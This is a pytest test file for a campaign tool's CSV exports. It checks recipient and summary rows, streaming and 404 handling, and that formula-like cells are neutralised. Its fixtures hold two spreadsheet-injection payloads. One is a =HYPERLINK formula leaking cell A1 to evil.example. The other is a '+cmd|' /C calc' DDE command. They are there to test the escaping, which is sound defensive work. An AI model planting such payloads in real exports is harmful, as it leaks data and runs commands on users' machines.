"""``export.csv`` (a line per recipient, streamed) and ``results.csv`` (a line per variant):
their contents, and cells a spreadsheet would run as formulas neutralised."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from ccm.campaigns.export import RECIPIENT_HEADER, SUMMARY_HEADER
from tests.campaigns.results_helpers import LAUNCH, Recipient, email_of, make_campaign, track

GOAL = {"event": "order_completed", "within_hours": 24}
HOSTILE = '=HYPERLINK("evil.example?leak=" & A1, "Click for your prize")'


def rows(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.fixture
def campaign(runtime, app, api, workspace, write_key):
    recipients = [
        Recipient("ada", "A", "delivered", engagement=["delivered", "machine_opened", "opened", "clicked"]),
        Recipient(HOSTILE, "B", "sent"),
        Recipient("+44 7700 900123", "B", "skipped", reason="-1 quiet_hours: +cmd|' /C calc'!A0", sent_after=None),
    ]
    campaign = make_campaign(runtime, api, workspace[0], recipients, goal=GOAL, holdout=("@holdout",))
    track(app, write_key, "ada", "order_completed", LAUNCH + dt.timedelta(hours=3))
    track(app, write_key, "@holdout", "order_completed", LAUNCH + dt.timedelta(hours=1))
    return campaign


def test_one_line_per_recipient_then_the_holdout(api, campaign):
    response = api.get(f"/v1/campaigns/{campaign}/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    lines = rows(response)
    assert list(lines[0]) == list(RECIPIENT_HEADER)
    ada = next(line for line in lines if line["profile_external_id"] == "ada")
    assert ada["address"] == email_of("ada")
    assert (ada["variant"], ada["channel"], ada["status"]) == ("A", "email", "delivered")
    assert ada["sent_at"] == "2026-11-30T09:01:00Z"  # the attempt's time, not the report's
    assert ada["delivered_at"] == "2026-11-30T09:11:00Z"
    assert ada["opened_at"] == "2026-11-30T11:13:00Z"  # the machine open at 10:12 is not a person
    assert ada["clicked_at"] == "2026-11-30T12:14:00Z"
    assert ada["converted"] == "true"
    assert [line["variant"] for line in lines] == ["A", "B", "B", "holdout"]
    holdout = lines[-1]
    assert (holdout["status"], holdout["address"], holdout["converted"]) == ("held_out", "", "true")
    assert lines[1]["converted"] == "false"


def test_formulas_are_neutralised(api, campaign):
    raw = api.get(f"/v1/campaigns/{campaign}/export.csv").get_data(as_text=True)
    lines = rows(api.get(f"/v1/campaigns/{campaign}/export.csv"))
    external_ids = [line["profile_external_id"] for line in lines]
    assert "'" + HOSTILE in external_ids
    assert "'+44 7700 900123" in external_ids
    assert "'@holdout" in external_ids
    assert lines[2]["reason"].startswith("'-1 quiet_hours")
    for line in lines:
        for value in line.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert "\n=HYPERLINK" not in raw and ",=HYPERLINK" not in raw


def test_the_export_is_streamed(api, campaign):
    response = api.get(f"/v1/campaigns/{campaign}/export.csv", buffered=False)
    assert response.is_streamed
    chunks = list(response.response)
    assert len(chunks) == 5  # the header and one chunk per line: never the whole file at once
    response.close()


def test_the_summary_has_a_line_per_variant_the_holdout_and_the_total(api, campaign):
    response = api.get(f"/v1/campaigns/{campaign}/results.csv")
    assert response.status_code == 200
    lines = rows(response)
    assert list(lines[0]) == list(SUMMARY_HEADER)
    assert [line["variant"] for line in lines] == ["A", "B", "holdout", "all"]
    a, b, holdout, total = lines
    assert (a["targeted"], a["opened"], a["machine_opened"], a["conversions"]) == ("1", "1", "1", "1")
    assert (b["targeted"], b["skipped"], b["sent"]) == ("2", "1", "1")
    assert float(a["open_rate"]) == 1.0 and b["open_rate"] == "0.0"
    assert (holdout["targeted"], holdout["conversions"]) == ("1", "1")
    assert total["targeted"] == "3"


def test_an_empty_campaign_exports_its_header(runtime, api, workspace):
    campaign = make_campaign(runtime, api, workspace[0], [])
    response = api.get(f"/v1/campaigns/{campaign}/export.csv")
    assert response.get_data(as_text=True).splitlines() == [",".join(RECIPIENT_HEADER)]


def test_exports_of_unknown_campaigns_are_404(api):
    for path in ("export.csv", "results.csv"):
        answer = api.get(f"/v1/campaigns/cmp_00000000000000000000000000/{path}")
        assert answer.status_code == 404
        assert answer.mimetype == "application/json"
        assert api.get(f"/v1/campaigns/bad/{path}").status_code == 422
